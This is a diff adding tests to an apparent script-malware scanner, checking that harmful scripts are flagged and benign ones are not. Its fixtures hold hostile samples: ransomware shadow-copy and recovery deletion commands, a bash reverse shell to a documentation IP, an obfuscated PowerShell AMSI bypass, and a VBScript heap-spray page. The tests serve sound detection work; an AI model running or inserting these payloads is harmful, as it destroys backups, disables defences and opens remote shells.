@@ -290,6 +290,41 @@ suite('a text that is a command', () => {
   test('of the own computer is harmless', () => harmless(Buffer.from('cmd /c dir\n')))
 })
 
+suite('a script that does harm by itself', () => {
+  const SHADOWS = '@echo off\r\nvssadmin delete shadows /all /quiet\r\n'
+  const attacks: [string, string][] = [
+    ['a.bat', `${SHADOWS}bcdedit /set {default} recoveryenabled no\r\nwbadmin delete catalog -quiet\r\n`],
+    ['a.sh', '#!/bin/bash\n# check\nuname -a\nid\nhostname\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n'],
+    [
+      'a.ps1',
+      "# Helper\n$a='System.Management.Automation.A'+'msiUt'+'ils';$f='a'+'msiInitFailed'\n[Ref].Assembly.GetType($a).GetField($f,'NonPublic,Static').SetValue($null,$true)\n$b=1\n$c=2\n&($d)\n",
+    ],
+  ]
+  for (const [name, text] of attacks)
+    test(name, () => {
+      has(packed(name, text), 'Script.Program')
+      has(Buffer.from(text), 'Script.Program')
+    })
+  test('in a page, by a published overflow of the engine', () => {
+    const page = (code: string) =>
+      Buffer.from(
+        `<html><body><script language="vbscript">\r\nClass A\r\nPrivate Sub Class_Terminate()\r\nSet b(0)=c(1)\r\nEnd Sub\r\nEnd Class\r\n${code}\r\n</script></body></html>`,
+      )
+    has(page('sc=Unescape("%u9090%u9090%u9090")'), 'Script.Program')
+    harmless(page('document.title = "a"'))
+  })
+  test('but one step of an administrator is none', () => {
+    harmless(packed('a.bat', SHADOWS))
+    harmless(packed('a.sh', '#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\n'))
+  })
+  test('but an article that shows it is none', () =>
+    harmless(
+      Buffer.from(
+        '# Recovery\n\nRansomware deletes the copies of files first:\n\n    vssadmin delete shadows /all\n    bcdedit /set {default} recoveryenabled no\n\nWatch for these commands in the log of your computers.\n',
+      ),
+    ))
+})
+
 suite('harmless', () => {
   const cases: [string, Uint8Array][] = [
     [
